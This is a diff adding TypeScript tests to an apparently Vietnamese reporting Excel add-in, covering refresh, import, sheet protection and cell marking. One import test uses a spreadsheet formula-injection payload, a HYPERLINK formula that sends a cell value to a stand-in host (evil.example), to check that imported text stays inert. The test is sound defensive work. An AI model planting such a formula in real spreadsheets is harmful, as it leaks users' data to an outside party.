@@ -7,13 +7,14 @@ import { buildWorkbookModel } from '../../core/layout';
 import { parsePeriod } from '../../core/periods';
 import { readSubmission } from '../../core/reader';
 import { validateSubmission } from '../../core/rules';
-import type { Issue } from '../../core/submission';
+import { columnLetter, type Issue } from '../../core/submission';
 import { readWorkbookFile, writeSubmissionWorkbook } from '../../core/xlsx';
 import { ExcelAdapter } from '../../addin/excel/adapter';
 import { MARK_FILL } from '../../addin/excel/marks';
 import { planSheet } from '../../addin/excel/render';
 import { createOrRefresh, exportSubmission, importFiles, PaneError, runCheck } from '../../addin/workflows';
 import { FakeWorkbook, fakeRun } from './fake-excel';
+import { localOfficeWorkbook } from '../hardening/local-office';
 import { filledSubmission, gridsOfModel, localFile, realReference, syntheticReference } from './helpers';
 
 const H1 = parsePeriod('2026-H1');
@@ -259,5 +260,117 @@ describe('export', () => {
     if (result.status !== 'ready') return;
     const back = await readWorkbookFile(result.bytes, result.fileName);
     expect(back.submission?.overrideReason ?? null).toBeNull();
+  });
+});
+
+describe('defects found in review', () => {
+  const ref = realReference();
+
+  test('refresh refuses, and changes nothing, when a sheet the reader could not place holds figures (L02)', async () => {
+    const { book, adapter } = setup();
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    await book.edit('Mẫu 03', 'D11', 7);
+    await book.edit('Mẫu 04', 'D11', 9);
+    // The `(1)`, `(2)`, … row blanked on both forms: neither table can be placed, so no figure is seen.
+    for (const sheet of ['Mẫu 03', 'Mẫu 04']) for (let column = 1; column <= 30; column++) await book.edit(sheet, `${columnLetter(column)}9`, null);
+    const err = await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null }).catch((e) => e);
+    expect(err).toBeInstanceOf(PaneError);
+    expect((err as PaneError).text.vi).toContain('Trang "Mẫu 03"');
+    expect((err as PaneError).text.vi).toContain('L02');
+    expect((err as PaneError).text.en).toContain('Sheet "Mẫu 03"');
+    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
+    expect(book.cell('Mẫu 04', 'D11').value).toBe(9);
+  });
+
+  test('a broken sheet with nothing below its title block is rebuilt', async () => {
+    const { book, adapter } = setup();
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    const sheet = book.sheet('Mẫu 04');
+    for (const k of [...sheet.cells.keys()]) if (Number(k.split(',')[0]) > 6) sheet.cells.delete(k);
+    await expect(createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null })).resolves.toEqual({ refreshed: true });
+    expect(book.cell('Mẫu 04', 'D9').value).toBe('(1)');
+  });
+
+  test('import never rewrites rows it does not import: text kept text, no formula revived', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?d="&C4,"xem")';
+    const { book, adapter } = setup();
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    // 5102's row (12) received text that looks like a formula, written defused (`'=…`).
+    await importFiles(adapter, ref, [{ name: 'binh-son.xlsx', data: await localOfficeWorkbook(ref.registry, '5102', H1, (v) => [hostile, ...v.slice(1)]) }], readWorkbookFile);
+    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
+    // Then the rows either side of it.
+    const files = await Promise.all(['5101', '5103'].map(async (code) => ({ name: `${code}.xlsx`, data: await localFile(ref, code, H1) })));
+    const outcomes = await importFiles(adapter, ref, files, readWorkbookFile);
+    expect(outcomes.map((o) => o.imported)).toEqual([true, true]);
+    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
+    // Read back as text, and a refresh keeps it text.
+    const checked = await runCheck(adapter, ref);
+    expect(checked.submission?.forms.F03?.rows.find((r) => r.unitCode === '5102')?.values[0]).toBe(hostile);
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null });
+    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
+  });
+
+  test('the pane’s own writes do not count as edits, on hosts that do not say who changed a cell', async () => {
+    const { book } = setup();
+    let now = 1_000_000;
+    const adapter = new ExcelAdapter(fakeRun(book), () => now);
+    const edits: string[] = [];
+    await adapter.watchChanges((id) => edits.push(id));
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    await book.edit('Mẫu 03', 'G10', 1);
+    await book.edit('Mẫu 03', 'I10', 2);
+    now += 60_000;
+    await book.eventsDelivered();
+    edits.length = 0;
+    await runCheck(adapter, ref); // writes marks
+    await book.eventsDelivered();
+    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe(MARK_FILL.error);
+    await importFiles(adapter, ref, [{ name: 'son-ha.xlsx', data: await localFile(ref, '5101', H1) }], readWorkbookFile);
+    await book.eventsDelivered();
+    expect(edits).toEqual([]);
+    now += 60_000;
+    await book.edit('Mẫu 03', 'D11', 4); // a person typing
+    expect(edits).toEqual([book.sheet('Mẫu 03').id]);
+  });
+
+  test('a sheet locked with a password: a bilingual message naming it, and nothing changed', async () => {
+    const { book, adapter } = setup();
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    await book.edit('Mẫu 03', 'D11', 7);
+    // The user protects Mẫu 04 again, with a password and without allowing formats.
+    const f04 = book.sheet('Mẫu 04');
+    f04.protection = { protected: true, options: {}, password: 'bí mật' };
+    const expectLocked = (err: unknown) => {
+      expect(err).toBeInstanceOf(PaneError);
+      expect((err as PaneError).text.vi).toContain('Trang "Mẫu 04"');
+      expect((err as PaneError).text.vi).toContain('mật khẩu');
+      expect((err as PaneError).text.en).toContain('password');
+    };
+    expectLocked(await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null }).catch((e) => e));
+    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
+    expect(book.sheet('Mẫu 03').protection.protected).toBe(true);
+    expect(book.sheet('Mẫu 03').merges.length).toBeGreaterThan(0);
+
+    await book.edit('Mẫu 04', 'I10', 2); // V08 on Mẫu 04: the check must mark it
+    expectLocked(await runCheck(adapter, ref).catch((e) => e));
+    expectLocked(await importFiles(adapter, ref, [{ name: 'son-ha.xlsx', data: await localFile(ref, '5101', H1) }], readWorkbookFile).catch((e) => e));
+    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
+    expect(book.sheet('Mẫu 03').protection).toMatchObject({ protected: true });
+    expect(f04.protection).toMatchObject({ protected: true, password: 'bí mật' });
+  });
+
+  test('a fill a person chose in Excel’s own “Bad” or “Neutral” colour survives the check', async () => {
+    const { book, adapter } = setup();
+    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
+    book.cell('Mẫu 03', 'C11').format.fill = 'FFC7CE'; // Excel's "Bad" style
+    book.cell('Mẫu 03', 'C12').format.fill = 'FFEB9C'; // Excel's "Neutral" style
+    await book.edit('Mẫu 03', 'G10', 1);
+    await book.edit('Mẫu 03', 'I10', 2);
+    await runCheck(adapter, ref);
+    await book.edit('Mẫu 03', 'I10', 1);
+    await runCheck(adapter, ref);
+    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe('FFFFFF');
+    expect(book.cell('Mẫu 03', 'C11').format.fill).toBe('FFC7CE');
+    expect(book.cell('Mẫu 03', 'C12').format.fill).toBe('FFEB9C');
   });
 });
